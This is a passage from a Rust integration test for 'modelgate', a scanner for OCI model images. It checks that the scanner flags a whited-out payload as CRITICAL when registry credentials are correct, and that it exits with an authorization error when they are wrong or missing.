    let dir = t.path().join("layout");
    write_layout(&dir, &[whiteout_image()], "v1");
    reg.push_layout(&dir, "v1", "private/model");
    let target = format!("oci://{}/private/model:v1", reg.host());
    let empty_cfg = t.path().join("nocreds");
    std::fs::create_dir_all(&empty_cfg).expect("dir");
    let run = |password: Option<&str>| {
        let mut cmd = Command::cargo_bin("modelgate").expect("bin");
        cmd.env("DOCKER_CONFIG", &empty_cfg).args(["scan"]);
        if let Some(p) = password {
            cmd.args(["--username", "alice", "--password-stdin"])
                .write_stdin(format!("{p}\n"));
        }
        cmd.arg(&target).output().expect("run")
    };
    // right credentials: the token flow succeeds and the whited-out payload is found
    let ok = run(Some("s3cret"));
    let ok_out = String::from_utf8_lossy(&ok.stdout);
    assert_eq!(ok.status.code(), Some(1), "{ok_out}");
    assert!(ok_out.contains("CRITICAL"), "{ok_out}");
    // wrong password and no credentials: exit 2 with the registry's refusal, nothing clean
    for attempt in [run(Some("wrong")), run(None)] {
        let out = String::from_utf8_lossy(&attempt.stdout);
        let err = String::from_utf8_lossy(&attempt.stderr);
        assert_eq!(attempt.status.code(), Some(2), "{out}{err}");
        assert!(out.contains("not authorized"), "{out}{err}");
    }
}
